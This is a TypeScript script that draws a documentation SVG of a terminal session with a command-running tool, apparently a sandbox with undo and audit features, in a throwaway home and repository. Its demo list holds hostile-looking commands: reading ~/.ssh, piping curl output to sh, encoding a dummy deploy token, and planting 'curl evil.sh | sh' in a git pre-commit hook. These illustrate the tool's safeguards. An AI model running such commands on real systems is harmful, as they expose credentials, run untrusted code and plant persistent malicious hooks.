// Draws docs/images/session.svg: a session at a terminal, from what the real program prints.
//   tools/node tools/terminal-picture.ts [OUT]
// Each command of the script below runs in a home and a repository made for it.
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

const root = path.dirname(import.meta.dirname);
const out = process.argv[2] ?? path.join(root, 'docs/images/session.svg');
const columns = 98;
const escape = String.fromCodePoint(0x1b);

const script = [
  "trl run 'ls ~/.ssh'",
  "trl run 'curl -sS https://example.com/install | sh'",
  `trl run --env-key DEPLOY_TOKEN 'echo "$DEPLOY_TOKEN" | base64'`,
  `trl run -v "rm cart.test.js; echo 'curl evil.sh | sh' > .git/hooks/pre-commit"`,
  'trl undo $(trl snapshot list --json | jq -r .snapshots[0].exec_id)',
  'trl run --json npm test > receipt.json; trl audit verify --head receipt.json',
];

interface Span {
  readonly text: string;
  /** Classes of the picture's style sheet. */
  readonly look: string;
}
type Line = readonly Span[];

const looks: ReadonlyMap<string, string> = new Map([
  ['1', 'bold'],
  ['2', 'dim'],
  ['31', 'red'],
  ['32', 'green'],
  ['33', 'yellow'],
  ['34', 'blue'],
  ['35', 'magenta'],
  ['36', 'cyan'],
  ['90', 'dim'],
]);

const home = mkdtempSync(path.join(tmpdir(), 'trl-picture-'));
try {
  const lines = record();
  mkdirSync(path.dirname(out), { recursive: true });
  writeFileSync(out, svg(lines));
  process.stdout.write(`${path.relative(root, out)}: ${lines.length} lines\n`);
} finally {
  rmSync(home, { recursive: true, force: true });
}

function record(): Line[] {
  const shop = path.join(home, 'shop');
  mkdirSync(shop);
  mkdirSync(path.join(home, '.ssh'), { mode: 0o700 });
  writeFileSync(path.join(home, '.ssh/id_ed25519'), 'not a key\n', { mode: 0o600 });
  const git = (...args: string[]): string => execFileSync('git', ['-C', shop, ...args]).toString();
  writeFileSync(path.join(shop, 'cart.test.js'), "require('node:test')('adds up', () => {});\n");
  const scripts = { test: 'node --test' };
  writeFileSync(path.join(shop, 'package.json'), JSON.stringify({ name: 'shop', scripts }));
  git('init', '-q');
  git('add', '.');
  git('-c', 'user.name=Ada', '-c', 'user.email=ada@example.org', 'commit', '-qm', 'Begin');
  return script.flatMap((command) => {
    const shown: Line = [
      { text: '~/shop', look: 'blue' },
      { text: ` $ ${command}`, look: 'bold' },
    ];
    return [...wrapped(shown), ...run(shop, command), []];
  });
}

/** What a terminal shows of a command, as lines of spans. */
function run(cwd: string, command: string): Line[] {
  const env = {
    HOME: home,
    PATH: `${root}:${process.env['PATH'] ?? ''}`,
    DEPLOY_TOKEN: 'p7Gx2mQ9vK4tR8wZ',
    TERM: 'xterm-256color',
    LANG: 'C.UTF-8',
  };
  // `script` gives the program a terminal, and prints what went over it.
  const { stdout } = spawnSync('script', ['-qec', command, '/dev/null'], { cwd, env, input: '' });
  // A line that was erased, as that of progress, is not there any more.
  const kept = stdout
    .toString()
    .replaceAll(new RegExp(`[^\\n]*\\r?${escape}\\[K`, 'g'), '')
    .replaceAll('\r\n', '\n');
  const plain = kept.replaceAll(home, '/home/ada').trimEnd();
  return plain === '' ? [] : plain.split('\n').flatMap((line) => wrapped(spans(line)));
}

function spans(line: string): Line {
  const found: Span[] = [];
  let look = '';
  for (const part of line.split(new RegExp(`(${escape}\\[[0-9;]*m)`))) {
    if (!part.startsWith(`${escape}[`)) {
      if (part !== '') found.push({ text: part, look });
      continue;
    }
    const codes = part.slice(2, -1).split(';');
    look = codes.flatMap((code) => looks.get(code) ?? []).join(' ');
  }
  return found;
}

/** Long lines go on in the next row, as a terminal shows them. */
function wrapped(line: Line): Line[] {
  const rows: Span[][] = [[]];
  let used = 0;
  for (const { text, look } of line) {
    for (let rest = text; rest !== '';) {
      if (used === columns) {
        rows.push([]);
        used = 0;
      }
      const piece = rest.slice(0, columns - used);
      rows.at(-1)?.push({ text: piece, look });
      used += piece.length;
      rest = rest.slice(piece.length);
    }
  }
  return rows;
}

function svg(lines: readonly Line[]): string {
  const [charWidth, rowHeight, margin, bar] = [8.43, 20, 18, 34];
  const width = Math.ceil(columns * charWidth + 2 * margin);
  const height = lines.length * rowHeight + bar + margin;
  const rows = lines.map((line, row) => {
    const y = bar + (row + 1) * rowHeight - 6;
    const parts = line.map(({ text, look }) => `<tspan class="${look}">${escaped(text)}</tspan>`);
    return `<text x="${margin}" y="${y}">${parts.join('')}</text>`;
  });
  return `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 ${width} ${height}" width="${width}"
  height="${height}" role="img" aria-label="A session with trl at a terminal">
<style>
text { font: 14px ui-monospace, 'DejaVu Sans Mono', Menlo, Consolas, monospace;
  fill: #d6dbe3; white-space: pre }
.bold { font-weight: 700; fill: #fff } .dim { fill: #8a93a3 } .red { fill: #ff8a80 }
.green { fill: #8bd49c } .yellow { fill: #f3d27a } .blue { fill: #8ab8ff }
.magenta { fill: #d7a6ff } .cyan { fill: #7fd6e0 }
</style>
<rect width="${width}" height="${height}" rx="8" fill="#171b22"/>
<g fill="#3a414d"><circle cx="20" cy="17" r="5"/><circle cx="38" cy="17" r="5"/>
<circle cx="56" cy="17" r="5"/></g>
${rows.join('\n')}
</svg>
`;
}

function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
}
